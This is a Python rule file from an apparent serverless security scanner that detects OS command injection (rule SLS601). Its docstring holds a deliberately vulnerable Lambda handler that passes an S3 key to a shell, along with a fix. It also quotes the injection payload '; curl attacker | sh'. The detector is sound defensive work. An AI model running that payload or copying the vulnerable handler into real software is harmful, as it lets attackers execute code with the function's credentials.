"""os-command-injection (SLS601): event data reaches a shell.

## What it does
Follows the event fields the function's triggers let an attacker control (an API request,
an S3 object key, an SQS message, ...) to a shell: `subprocess` with `shell=True` (or
`["sh", "-c", ...]`), `os.system`, `os.popen`, Node's `child_process.exec`/`execSync`.
`shlex.quote`, `int()` and an allow-list check end the flow; a list of arguments without a
shell is safe. The finding shows the path from the source to the shell.

## Why is this bad?
Anyone who can upload a file or send a request chooses the command the function runs, with
its role's permissions and credentials (`; curl attacker | sh`). S3 keys and queue messages
are as attacker-controlled as a request body, and no WAF sees them.

## Example
```yaml
service: thumbnails
provider:
  name: aws
  runtime: python3.12
functions:
  resize:
    handler: handler.resize
    events:
      - s3: uploads
```

```python
# file: handler.py
import subprocess


def resize(event, context):
    key = event["Records"][0]["s3"]["object"]["key"]
    subprocess.run(f"convert /tmp/{key} /tmp/out.png", shell=True, check=True)
```

## Fix
Pass a list of arguments without a shell:
```yaml
service: thumbnails
provider:
  name: aws
  runtime: python3.12
functions:
  resize:
    handler: handler.resize
    events:
      - s3: uploads
```

```python
# file: handler.py
import os
import subprocess


def resize(event, context):
    key = os.path.basename(event["Records"][0]["s3"]["object"]["key"])
    subprocess.run(["convert", f"/tmp/{key}", "/tmp/out.png"], check=True)
```

## References
- https://owasp.org/www-project-serverless-top-10/
- https://cwe.mitre.org/data/definitions/78.html
"""

from collections.abc import Iterator

from slsguard.analysis.code_findings import code_violations
from slsguard.findings import Confidence, Severity, Violation
from slsguard.model import Application
from slsguard.rules import NO_TEMPLATES, Context, rule


@rule(
    "SLS601",
    "os-command-injection",
    Severity.CRITICAL,
    "Event data reaches a shell",
    practice="P6",
    mappings={
        "owasp-serverless": "S1",
        "cwe": "CWE-78",
    },
    confidence=Confidence.MEDIUM,
    dialects=NO_TEMPLATES,
)
def check(app: Application, context: Context) -> Iterator[Violation]:
    """The flows and calls this rule looks for, in the handler code of `app`."""
    yield from code_violations(app, "os-command-injection", Severity.CRITICAL)
